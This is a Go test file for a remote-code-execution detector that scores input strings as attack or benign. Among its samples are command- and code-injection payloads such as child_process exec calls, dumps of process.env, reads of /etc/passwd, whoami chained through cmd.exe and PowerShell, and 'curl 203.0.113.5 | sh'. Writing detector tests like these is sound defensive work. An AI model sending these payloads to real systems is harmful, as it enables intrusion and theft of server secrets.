package rce

import (
	"strings"
	"testing"

	"github.com/weirnode/weir/detect/evidence"
	"github.com/weirnode/weir/point"
)

// TestWhole holds values that are programs as a whole to being found, and lines of honest
// programs, prose about them and names to not being.
func TestWhole(t *testing.T) {
	f := func(kind point.Kind, text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, kind); got.Score() >= 8 != attack {
			t.Errorf("%s %q scores %d: %+v", kind, text, got.Score(), got.Marks[:got.N])
		}
	}
	// Calls that reach what only a server has, in any language.
	f(point.Text, "System.getenv('AWS_REGION')", true)
	f(point.CookieText, "java.lang.Thread.sleep(4000)", true)
	f(point.WholePath, "/items/os.uname()", true)
	f(point.Text, "1+process.abort()", true)
	f(point.Text, "require('os').userInfo().username", true)
	f(point.Text, "require('child'+'_process')['exec']('id')", true)
	f(point.Text, "new URL('http://203.0.113.5').text", true)
	f(point.Text, "JSON.stringify(process.env)", true)
	f(point.Text, "ngx.exit(444)", true)
	f(point.Text, "Net::HTTP.get('203.0.113.5','/')", true)
	f(point.Text, "System.IO.File.ReadAllText('c:\\\\a.txt')", true)
	f(point.Text, "new URL('https://shop.example/a').hostname", false)
	f(point.Text, "java.lang.Thread.run()", false)
	f(point.Text, "java.lang.Thread.run(Thread.java:748)", false)
	f(point.Text, "System.IO.File.ReadAllText(String path)", false)
	f(point.Text, "use System.getenv('HOME') for that", false)
	f(point.Text, "System.getenv('HOME') returns null", false)
	f(point.Text, "why does process.cwd() differ?", false)
	f(point.Text, "const cpus = require('os').cpus()", false)
	f(point.Text, "dir = os.getcwd()", false)
	f(point.Text, "os.listdir(folder)", false)
	f(point.Text, "require('react').useState()", false)
	f(point.Text, "files = os.listdir('.')\nfor f in files:\n    print(f)", false)
	f(point.Text, "Runtime.getRuntime().totalMemory()", false)
	f(point.Text, "return redis.call('GET', KEYS[1])", false)
	f(point.Text, "redis.call('config','get','*')", true)
	f(point.Text, "fs.readFileSync('package.json')", false)
	// Imports that go on.
	f(point.Text, "import os as o;o.getpid()", true)
	f(point.Text, "from subprocess import *;run('id')", true)
	f(point.Text, "import os, sys", false)
	f(point.Text, "import time; start = time.time()", false)
	f(point.Text, "import React from 'react';render()", false)
	// Between the marks of a template.
	f(point.Text, "${process.env}", true)
	f(point.Text, "#{Rails.application.secrets}", true)
	f(point.Text, "${process.env.API_URL}", false)
	f(point.Text, "${java.io.tmpdir}", false)
	f(point.Text, "#{Rails.root}", false)
	// Loops that wait, probes of PHP.
	f(point.Text, "t=Date.now();while(Date.now()-t<4000);", true)
	f(point.Text, "while (true) { poll() }", false)
	f(point.Text, "echo 31*411;", true)
	f(point.Text, "';print(PHP_OS);//", true)
	f(point.Text, "echo md5('k1');", true)
	f(point.Text, "echo $name;", false)
	f(point.Text, "echo \"hello\";", false)
	f(point.Text, "die('no connection');", false)
	f(point.Text, "var_dump($items);", false)
	// Functions that call others back.
	f(point.Text, "array_reduce(['id'],'system');", true)
	f(point.Text, "Closure::fromCallable('passthru')->__invoke('id')", true)
	f(point.Text, "array_map('trim', $names)", false)
	f(point.Text, "in_array('system', $kinds)", false)
	// A string that is left, and goes on behind.
	f(point.Text, "k'+process.abort()+'l", true)
	f(point.Text, "k\"+System.getenv('A')+\"l", true)
	f(point.Text, "k'.`id`.'", true)
	f(point.Text, "it's+that's", false)
	f(point.Text, "\"a\"+name+\"b\"", false)
	// Lookups that tell of the server.
	f(point.Text, "${java:vm}", true)
	f(point.Text, "${sys:os.name}", true)
	f(point.Text, "${sys:LOG_DIR}", false)
	f(point.Text, "${env:STAGE}", false)
}

// TestShells holds commands to what must come of them by the shell's own spellings.
func TestShells(t *testing.T) {
	f := func(kind point.Kind, text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, kind); got.Score() >= 8 != attack {
			t.Errorf("%s %q scores %d: %+v", kind, text, got.Score(), got.Marks[:got.N])
		}
	}
	// Redirections.
	f(point.Text, "$(</etc/hostname)", true)
	f(point.Text, "k>/tmp/o", true)
	f(point.Text, "Home>/shop/tmp", false)
	f(point.Text, "<a href=/x>/tmp/o", false)
	f(point.Text, "k;2>&1 id", true)
	f(point.Text, "k;echo x > index.php", true)
	f(point.Text, "notes; echo x > y", false)
	// PowerShell without commands.
	f(point.Text, "k;[Environment]::MachineName", true)
	f(point.Text, "k;$env:TEMP", true)
	f(point.Text, "k;$p=whoami;$p", true)
	f(point.Text, "k;&{whoami}", true)
	f(point.Text, "k;New-LocalUser m", true)
	f(point.Text, "see; [Math] homework", false)
	f(point.Text, "a; $env", false)
	f(point.Text, "home;new-item", false)
	f(point.Text, "a;set-up", false)
	f(point.Text, "function(){find}", false)
	// cmd.exe.
	f(point.Text, "192.0.2.1&if 1==1 whoami", true)
	f(point.Text, "k.docx & whoami", true)
	f(point.Text, "localhost & powershell ls", true)
	f(point.Text, "k.txt&cmd/c calc", true)
	f(point.Text, `k & C:\Windows\System32\whoami.exe`, true)
	f(point.Text, `C:\a & C:\b`, false)
	f(point.Text, "php & mysql", false)
	f(point.Text, "localhost & staging", false)
	// What attacks leave behind, and words that probes print.
	f(point.Text, "k;/dev/shm/x", true)
	f(point.Text, "/usr/bin;/tmp/x", false)
	f(point.Text, "k;echo probe_71", true)
	f(point.Text, "dot;echo speaker", false)
	// Options in place of a name.
	f(point.Text, "-K/tmp/c", true)
	f(point.Text, "-iL /etc/passwd", true)
	f(point.Text, "--exec-before-download id", true)
	f(point.Text, "-javaagent:/tmp/a.jar", true)
	f(point.Text, "@/etc/passwd", true)
	f(point.Text, "--output=/tmp/report.html", false)
	f(point.Text, "-o out.mp4 -i in.mp4", false)
	f(point.Text, "--exec node server.js", false)
	f(point.Text, "-e NODE_ENV=production", false)
	f(point.Text, "- cat /etc/hosts", false)
	f(point.Text, "@everyone", false)
	// Header fields.
	f(point.HeaderText, "cmd.exe /c whoami", true)
	f(point.HeaderText, "bash completion", false)
	// Scripts from bare addresses.
	f(point.Text, "#!/bin/sh\ncurl 203.0.113.5 | sh\n", true)
	f(point.Text, "#!/bin/sh\ncurl https://get.example.com | sh\n", false)
}

// TestLeadIsLinear reads what stands in front of a command once, not from each of its separators.
func TestLeadIsLinear(*testing.T) {
	data := []byte(strings.Repeat("{ :;", 1<<18))
	var best evidence.Tally
	Scan(&point.Value{Data: data, Classes: point.Classify(data)}, &point.Tree{}, &best)
}
